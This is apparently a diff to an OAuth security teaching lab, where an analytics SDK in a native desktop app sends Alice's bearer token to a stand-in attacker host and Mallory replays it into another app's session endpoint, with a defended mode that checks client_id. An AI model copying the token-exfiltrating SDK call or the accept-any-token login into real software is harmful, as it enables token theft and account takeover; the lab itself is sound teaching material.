@@ -162,28 +162,32 @@ def referer_with_query(run):
 @lesson.step("Mallory gets a token of Alice's from another app")
 def token_from_another_app(run):
     """
-    Part two: **token injection**. Alice also uses **PhotoPrint Mobile**.
-    The app embeds a third-party analytics SDK, which is Mallory's; it
-    reports the app's requests home, bearer token included. Read the
-    request: from the **client** to `sdk.attacker.test`, with
+    Part two: **token injection**. Alice also uses **Photo Uploader**, the
+    desktop app of lesson 03b, and signs in to it (code and PKCE, through
+    her browser). The app embeds a third-party analytics SDK, which is
+    Mallory's; it reports the app's requests home, bearer token included.
+    Read the last request: from the **client** to `sdk.attacker.test`, with
     `access_token=...` in the body.
 
     The token is Alice's (`sub: u-1001`) but was issued to
-    `photoprint-mobile`, not to Legacy Gallery: look at `client_id` in the
-    JWT panel.
+    `photo-uploader-native`, not to Legacy Gallery: look at `client_id` in
+    the JWT panel.
     """
-    response = run.first_party_app.password("alice", "wonderland", "basic")
+    app = run.native_app
+    run.browser.open(app.authorization_url("basic", pkce_method="S256"))
+    run.browser.approve()  # Alice is still signed in at the AS (step 1)
+    run.browser.follow_redirect()  # to the app's loopback listener
+    response = app.exchange_code(run.browser.query_params["code"])
     token = response.json().get("access_token", "")
-    run.first_party_app.http.post(
-        ANALYTICS_SDK, data={"event": "api_call", "access_token": token}
-    )
+    app.http.post(ANALYTICS_SDK, data={"event": "api_call", "access_token": token})
     run.other_token = run.attacker.loot("access_token")[-1]
     claims = run.decode(run.other_token).claims
-    run.check("PhotoPrint Mobile got a token (200)", response.status_code == 200)
+    run.check("Photo Uploader got a token (200)", response.status_code == 200)
     run.check("the SDK sent it to Mallory", run.other_token == token)
     run.check(
-        "it is Alice's, issued to photoprint-mobile",
-        claims.get("sub") == ALICE and claims.get("client_id") == "photoprint-mobile",
+        "it is Alice's, issued to photo-uploader-native",
+        claims.get("sub") == ALICE
+        and claims.get("client_id") == "photo-uploader-native",
     )
 
 
@@ -193,7 +197,7 @@ def inject(run):
     Legacy Gallery's page script posts the token from the fragment to
     `POST /legacy/session`, and the server signs in "whoever the token
     belongs to". Mallory posts the same form herself, with Alice's
-    PhotoPrint Mobile token (the request comes from the **Attacker** in the
+    Photo Uploader token (the request comes from the **Attacker** in the
     transcript).
 
     **Weakness on** (`client.accept_any_token`): the server asks the photos
@@ -204,7 +208,7 @@ def inject(run):
     adds is Alice's **account at Legacy Gallery**, with everything the app
     keeps there and lets its users do.
 
-    **Defended**: **401** *"This token was issued to photoprint-mobile, not
+    **Defended**: **401** *"This token was issued to photo-uploader-native, not
     to Legacy Gallery."* The server verified the token against the
     authorization server's keys (a `GET /jwks.json` of its own) and checked
     `client_id`: this app's check, not the API's.
@@ -227,7 +231,9 @@ def inject(run):
             ),
         )
     else:
-        refusal = "This token was issued to photoprint-mobile, not to Legacy Gallery."
+        refusal = (
+            "This token was issued to photo-uploader-native, not to Legacy Gallery."
+        )
         run.check("Legacy Gallery answers 401", response.status_code == 401)
         run.check(f'the page says "{refusal}"', refusal in response.text)
         run.check(
